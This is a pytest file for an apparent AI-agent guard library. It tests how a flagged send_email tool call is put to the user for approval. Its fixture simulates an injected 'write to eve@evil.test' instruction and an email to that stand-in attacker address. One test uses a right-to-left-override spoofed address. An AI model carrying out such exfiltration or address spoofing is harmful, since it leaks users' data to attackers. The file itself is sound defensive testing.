from types import SimpleNamespace

import pytest

from asepsis.core.types import Decision, Principal, Verdict
from asepsis.testing.agents import TOOLS
from asepsis.testing.clock import ManualClock
from asepsis.testing.histories import histories
from asepsis.testing.ids import SequentialIds
from asepsis.tools.asked import Asked
from asepsis.tools.draft import draft
from asepsis.tools.eliciting import Asking, Elicitor
from asepsis.tools.flow.monitor import Monitor
from asepsis.tools.flow.types import Doubt, Flow, Rule
from asepsis.tools.live import Live
from asepsis.tools.mcp.front import Call
from asepsis.tools.members import About, Members
from asepsis.tools.sessions import Session

MANIFEST = next(draft(tool) for tool in TOOLS if tool.name == "send_email")
MAIL = {"recipients": ["eve@evil.test"], "subject": "s", "body": "b"}
YES = {"action": "accept", "content": {"allow": True}}


def opened():
    log = histories(ManualClock())
    return lambda: log.open("s", tenant="local")


class Digests:
    def digest(self, kind, value, /, *, tenant):
        return f"{kind}-{value}"


@pytest.fixture
def elicitor():
    return Elicitor(ManualClock(), SequentialIds(), Digests())


def asked(*rules, policy=Verdict.ALLOW):
    decides = SimpleNamespace(decide=lambda question: Decision(policy, "", ("p",)))
    live = Live(None, decides, None, None, Members(None))
    session = Session(lambda: Monitor([MANIFEST]), "s", opened())
    session.monitor.overhear("write to eve@evil.test")
    flow = Flow(Verdict.ASK, tuple(Doubt(rule) for rule in rules))
    ask = Decision(Verdict.ASK, "why", tuple(rule.value for rule in rules), "b", approvable=True)
    call, who = Call(1, MANIFEST.name, MAIL, modern=False), Principal("local", "ann", "chat")
    return Asked(who, session, "plan", MANIFEST, call, live, About(frozenset(), beyond=False), flow, None, ask)


def saying(answer, shown=None):
    async def ask(params):
        if shown is not None:
            shown.append(params)
        return answer

    return Asking(ask)


BOTH = (Rule.INTENT, Rule.DESTINATION)


async def test_a_yes_of_the_users_lets_through_what_is_theirs_to_say(elicitor):
    shown = []
    one = await elicitor.asked(asked(*BOTH), saying(YES, shown))
    assert (one.decision.verdict, one.decision.policies, one.decision.bundle) == (
        Verdict.ALLOW,
        ("tools.elicited",),
        "b",
    )
    assert "eve@evil.test" in shown[0]["message"]
    assert shown[0]["message"].count("\n") == 2


@pytest.mark.parametrize(
    "answer",
    [
        {},
        {"action": "accept"},
        {"action": "decline", "content": {"allow": True}},
        {"action": "accept", "content": {"allow": "yes"}},
        {"action": "accept", "content": {"allow": False}},
    ],
)
async def test_only_a_plain_yes_is_one(elicitor, answer):
    one = await elicitor.asked(asked(*BOTH), saying(answer))
    assert (one.decision.verdict, "did not say yes" in one.decision.reason) == (Verdict.DENY, True)


@pytest.mark.parametrize(
    "one",
    [
        asked(Rule.CLEARANCE),
        asked(Rule.INTENT, Rule.SUBJECT),
        asked(Rule.MEMORY),
        asked(Rule.LINK),
        asked(),
        asked(Rule.INTENT, policy=Verdict.ASK),
        asked(Rule.INTENT, policy=Verdict.TRANSFORM),
    ],
)
async def test_what_is_an_approvers_to_say_is_not_put_to_the_user(elicitor, one):
    shown = []
    assert await elicitor.asked(one, saying(YES, shown)) == one
    assert shown == []


async def test_what_came_of_reading_more_meanwhile_is_asked_anew(elicitor):
    one = asked(Rule.INTENT)
    assert await elicitor.asked(one, saying(YES)) == one


async def test_nothing_in_time_and_no_way_to_ask_leave_it_to_others(elicitor):
    one = asked(*BOTH)
    assert await elicitor.asked(one, saying(None)) == one
    assert await elicitor.asked(one, Asking()) == one


async def test_another_round_brings_back_the_answer_to_its_own_question_alone(elicitor):
    one = asked(*BOTH)
    back = (await elicitor.asked(one, Asking(rounds=True))).question_back
    assert back["inputRequests"]["approve"]["method"] == "elicitation/create"
    said, state = {"approve": YES}, back["requestState"]
    other = one._replace(call=one.call._replace(arguments=MAIL | {"body": "other"}))
    for call, given in ((other, state), (one, "x.y"), (one, state.replace(".", "9.", 1))):
        found = await elicitor.asked(call, Asking(rounds=True, state=given, said=said))
        assert found.decision.policies == ("tools.state",)
    once = Asking(rounds=True, state=state, said=said)
    assert (await elicitor.asked(one, once)).decision.verdict is Verdict.ALLOW
    assert (await elicitor.asked(one, once)).decision.policies == ("tools.state",)
    late = (await elicitor.asked(one, Asking(rounds=True))).question_back["requestState"]
    elicitor._clock.advance(milliseconds=301_000)
    assert (await elicitor.asked(one, Asking(rounds=True, state=late, said=said))).decision.policies == ("tools.state",)


async def test_a_yes_is_to_the_doubts_that_were_told_and_to_no_others(elicitor):
    state = (await elicitor.asked(asked(Rule.INTENT), Asking(rounds=True))).question_back["requestState"]
    found = await elicitor.asked(asked(*BOTH), Asking(rounds=True, state=state, said={"approve": YES}))
    assert found.decision.policies == ("tools.state",)


def calling(one, **arguments):
    return one._replace(call=one.call._replace(arguments=MAIL | arguments))


async def test_a_long_text_hides_nobody_whom_a_call_is_for(elicitor):
    shown = []
    await elicitor.asked(calling(asked(*BOTH), body="we have it. " * 300), saying(YES, shown))
    assert "eve@evil.test" in shown[0]["message"]
    assert "3000 characters" in shown[0]["message"]


async def test_what_can_not_be_shown_whole_is_not_the_users_to_say(elicitor):
    shown = []
    one = calling(asked(*BOTH), recipients=["ann@plan.test"] * 200)
    assert await elicitor.asked(one, saying(YES, shown)) == one
    assert shown == []


async def test_what_nobody_sees_is_shown_as_its_number(elicitor):
    shown = []
    await elicitor.asked(calling(asked(*BOTH), recipients=["\u202etset.live@eve"]), saying(YES, shown))
    assert "\\u202etset.live@eve" in shown[0]["message"]
